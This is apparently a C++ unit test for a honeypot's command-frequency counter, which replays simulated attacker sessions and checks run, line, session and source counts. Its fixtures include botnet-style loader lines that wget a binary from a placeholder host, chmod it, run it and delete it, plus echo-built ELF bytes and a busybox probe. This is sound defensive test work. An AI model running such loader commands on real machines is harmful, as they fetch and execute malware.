// The command-frequency table (`kansoku query commands`) from the honeypot.command events that real
// sessions emit: loader lines typed into two sessions from two sources.

#include <gtest/gtest.h>

#include "honeypot/event/command_frequency.h"
#include "honeypot/session/shell_session.h"
#include "support/recording_collector.h"
#include "unit/honeypot/shell/persona_fixture.h"

namespace kansoku::honeypot {
namespace {

const CommandCount* row(const std::vector<CommandCount>& table, const std::string& command) {
    for (const auto& r : table) {
        if (r.command == command) {
            return &r;
        }
    }
    return nullptr;
}

TEST(CommandFrequency, CountsRunsLinesSessionsAndSourcesFromCommandEvents) {
    testing::RecordingCollector collector;
    ShellSession a(collector, SessionContext{"00000000000000a1", "telnet", "198.51.100.1", 40000, 23, ""},
                   shell::testing::routerPersona());
    ShellSession b(collector, SessionContext{"00000000000000b2", "ssh", "198.51.100.2", 40001, 22, ""},
                   shell::testing::routerPersona());
    a.runLine("cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a; rm -rf a");
    a.runLine("echo -ne '\\x7fELF' > .d; echo -ne '\\x01' >> .d; /bin/busybox ECCHI");
    b.runLine("cd /tmp && wget http://192.0.2.1/b && chmod +x b");
    b.runLine("sh -c 'echo $(uname -m)'"); // a substitution and a script: their commands count too
    CommandFrequency frequency;
    for (const auto& event : collector.ofType("honeypot.command")) {
        frequency.add(event);
    }
    frequency.add(Event{"honeypot.login", 0, "", {}}); // other types are ignored
    EXPECT_EQ(frequency.lines(), 4u);
    EXPECT_EQ(frequency.sessions(), 2u);
    const auto table = frequency.table();
    ASSERT_FALSE(table.empty());
    const auto* echo = row(table, "echo");
    ASSERT_NE(echo, nullptr);
    EXPECT_EQ(echo->runs, 3u); // twice in one line of a, once in b's script
    EXPECT_EQ(echo->lines, 2u);
    EXPECT_EQ(echo->sessions, 2u);
    const auto* wget = row(table, "wget");
    ASSERT_NE(wget, nullptr);
    EXPECT_EQ(wget->runs, 2u);
    EXPECT_EQ(wget->sources, 2u);
    const auto* uname = row(table, "uname");
    ASSERT_NE(uname, nullptr);
    EXPECT_EQ(uname->sessions, 1u);
    // Most runs first.
    for (size_t i = 1; i < table.size(); ++i) {
        EXPECT_GE(table[i - 1].runs, table[i].runs);
    }
    EXPECT_EQ(table.front().command, "echo") << table.front().command;
}

TEST(CommandFrequency, DistinctNamesAreBoundedAndTheRestCounted) {
    CommandFrequency frequency(2);
    Event event{"honeypot.command", 0, "", {}};
    event.add("session", std::string("s"));
    event.add("src", std::string("198.51.100.1"));
    event.add("commands", nlohmann::ordered_json::array({"a", "b", "c", "c"}));
    frequency.add(event);
    EXPECT_EQ(frequency.table().size(), 2u);
    EXPECT_EQ(frequency.otherRuns(), 2u);
}

} // namespace
} // namespace kansoku::honeypot
